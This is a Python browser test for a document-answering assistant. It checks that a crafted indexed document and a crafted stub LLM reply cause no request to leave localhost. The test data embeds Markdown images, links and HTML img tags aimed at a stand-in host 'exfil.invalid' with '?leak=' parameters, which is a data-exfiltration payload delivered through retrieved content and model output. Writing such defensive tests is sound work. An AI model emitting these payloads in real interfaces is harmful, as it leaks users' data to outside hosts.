"""In real Chromium: crafted documents and a crafted LLM reply make no request leave 127.0.0.1.

The document puts Markdown images, a link and an HTML image in its title, a section name and
its text; the OpenAI-compatible stub replies with the same. The page asks a question, opens
the source cards, and every request the browser tries is recorded (and refused if it is not
for 127.0.0.1). A control request made by the page itself shows the recorder works.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlparse

import pytest
from openai_stub_server import StubServer
from test_browser import CHROMIUM, CHROMIUM_ARGS, running_app

from assistant.index.store import IndexStore
from assistant.ingest.pipeline import Indexer
from assistant.settings import Settings
from assistant.ui.safe_text import JOINER

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian's chromium is not installed"),
]
OUT = "http://exfil.invalid"
DOCUMENT = f"""# Trust ![t]({OUT}/title.png?leak=title) in clusters

## Brokers ![s]({OUT}/section.png?leak=section) and trust

Trust grows from quick wins among the firms of a cluster. ![b]({OUT}/body.png?leak=body)
Brokers organise joint projects, [a link]({OUT}/link) and <img src="{OUT}/html.png"> help.
Firms that finish a small joint project together trust each other more afterwards.
"""
REPLY = (
    f"Trust grows from quick wins [1]. ![r]({OUT}/reply.png?leak=reply) "
    f'<img src="{OUT}/reply-html.png"> [more]({OUT}/reply-link) :red[loud] www.exfil.invalid'
)
QUESTION = "How does trust grow among the firms of a cluster?"


@pytest.fixture
def app_url(tmp_path: Path, embeddings) -> Iterator[str]:
    """The app on a crafted one-document index, answering through the stub LLM."""
    settings = Settings(
        corpus_dir=tmp_path / "corpus", index_dir=tmp_path / "index", second_embedding_model=""
    )
    (tmp_path / "corpus" / "documents").mkdir(parents=True)
    (tmp_path / "corpus" / "documents" / "trust.md").write_text(DOCUMENT, "utf-8")
    assert not Indexer(settings, embeddings).run().failed
    (entry,) = IndexStore(settings).load_ledger().files.values()
    assert "![t](" in entry.title  # the crafted title reached the index as it was written
    stub = StubServer().start()
    stub.script(*[REPLY] * 4)
    env = {
        **os.environ,
        "CLUSTER_ASSISTANT_INDEX_DIR": str(settings.index_dir),
        "CLUSTER_ASSISTANT_CORPUS_DIR": str(settings.corpus_dir),
        "CLUSTER_ASSISTANT_SECOND_EMBEDDING_MODEL": "",
        "CLUSTER_ASSISTANT_FEEDBACK_FILE": str(tmp_path / "feedback.jsonl"),
        "CLUSTER_ASSISTANT_LLM_BACKEND": "openai",
        "CLUSTER_ASSISTANT_LLM_MODEL": "stub-model",
        "CLUSTER_ASSISTANT_LLM_BASE_URL": stub.openai_url,
        "CLUSTER_ASSISTANT_ABSTAIN_THRESHOLD": "0.01",
    }
    try:
        with running_app(env, tmp_path) as url:
            yield url
            assert stub.requests, "the app never asked the stub LLM"
    finally:
        stub.stop()


def test_crafted_documents_and_replies_make_no_outside_request(app_url: str) -> None:
    from playwright.sync_api import expect, sync_playwright

    outside: list[str] = []

    def guard(route) -> None:
        if urlparse(route.request.url).hostname in ("127.0.0.1", None):
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        page.route("**/*", guard)
        page.goto(app_url)
        box = page.get_by_test_id("stChatInputTextArea")
        expect(box).to_be_visible(timeout=60_000)
        box.fill(QUESTION)
        box.press("Enter")
        expect(page.locator("a.cite").first).to_be_visible(timeout=120_000)
        cards = page.get_by_test_id("stExpander")
        for i in range(cards.count()):
            cards.nth(i).locator("summary").click()
        answer = page.get_by_test_id("stChatMessage").last
        expect(answer).to_contain_text("Trust grows from quick wins")
        page.wait_for_timeout(2000)  # time for any image to be fetched
        # the crafted text is shown as written, as text (word joiners aside)
        label = cards.first.locator("summary").inner_text().replace(JOINER, "")
        shown = answer.inner_text().replace(JOINER, "")
        hrefs = answer.locator("a").evaluate_all("els => els.map(e => e.getAttribute('href'))")
        images = page.locator("img").evaluate_all("els => els.map(e => e.src)")
        found = list(outside)
        page.evaluate(f"fetch('{OUT}/control').catch(() => null)")  # the recorder's control
        page.wait_for_timeout(500)
        browser.close()
    assert f"![t]({OUT}/title.png" in label and f"![r]({OUT}/reply" in shown
    assert found == []
    assert outside == [f"{OUT}/control"]
    assert hrefs and all(h.startswith("#src-") for h in hrefs), hrefs
    assert not [src for src in images if urlparse(src).hostname not in ("127.0.0.1", None)]
